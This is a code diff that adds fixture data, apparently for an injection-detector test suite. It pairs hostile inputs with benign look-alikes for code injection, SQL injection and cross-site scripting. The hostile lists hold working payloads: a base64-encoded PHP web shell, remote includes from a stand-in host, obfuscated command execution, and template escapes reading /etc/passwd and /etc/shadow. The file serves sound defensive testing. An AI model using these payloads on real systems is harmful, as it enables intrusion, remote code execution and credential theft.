@@ -20,6 +20,63 @@ interface Decision {
 }
 
 const DECISIONS: Readonly<Record<string, Decision>> = {
+  'what a language runs that nobody names (CWE-94, CWE-98)': {
+    hostile: [
+      `";include'data:;base64,PD89YCRfR0VUWzBdYDs=';"`,
+      "include 'https://e.example/a.txt';",
+      '<?php include_once("http://e.example/a")',
+      "$_='`{{{'^'?<>/';${$_}['_'](${$_}['__']);",
+      'base_convert(1751504350,10,36)(base_convert(784,10,36))',
+      "Fiddle::Function.new(Fiddle.dlopen(nil)['system'],[1],4).call('id')",
+      '#createObject("java","java.lang.System").exit(1)#',
+      'try:1/0\nexcept Exception as e:e.__traceback__.tb_frame.f_globals.clear()',
+      "';&(-join('i','e','x')) (gc x)",
+      "';set-alias x invoke-expression;x 'id'",
+      '<g:evaluate>gs.print(1)</g:evaluate>',
+      '[% INSERT /etc/passwd %]',
+      '[% PROCESS /etc/shadow %]',
+      '${bean:java.lang.System?method=exit(1)}',
+      '{%print(self._TemplateReference__context)%}',
+      '{{ x|attr("%c%cclass%c%c"|format(95,95,95,95)) }}',
+      "{{ a|attr('__cla'~'ss__') }}",
+      "{{grav.twig.twig.extensions.core.setEscaper('system','twig_array_filter')}}",
+    ],
+    honest: [
+      "include: 'https://git.example/ci.yml'",
+      '#include "http/client.h"',
+      'We include "https://a.example" in the list.',
+      "Please include 'http://' where it begins",
+      'connect(mapState)(Component)',
+      'a set-alias and a new-alias are what we list',
+      '[% INCLUDE header.tt %]',
+      '[% PROCESS common/macros.tt %]',
+      "{{ x|attr('name') }}",
+      '{{ item | attr("class") | upper }}',
+      "`${$t('a')}[b]`",
+    ],
+  },
+  'a query that goes on in one dialect alone (CWE-89)': {
+    hostile: [
+      "' union from users--",
+      "' union all from read_text('/etc/hostname')--",
+      "1' connect by level<9999999--",
+      "x' connect by 1=1--",
+    ],
+    honest: [
+      'the union from Europe',
+      'union from members',
+      "'Objects' connect by name",
+      'Rows connect by id = 1, as they did',
+    ],
+  },
+  'a framework’s directive behind a quote (CWE-79)': {
+    hostile: ['x" x-data x-init="alert(1)', "a' @click='fetch(`//e.example`)", 'x" ng-click="$eval(x)'],
+    honest: [
+      'say "hi" @click=save',
+      '<p class="a" x-data="{open:false}" @click="open = !open">x</p>',
+      'const {x} = a; b = "y" @fetch=1',
+    ],
+  },
   'a line of settings behind a value (CWE-93)': {
     hostile: [
       'avatar.png\nAddHandler application/x-httpd-php .png',
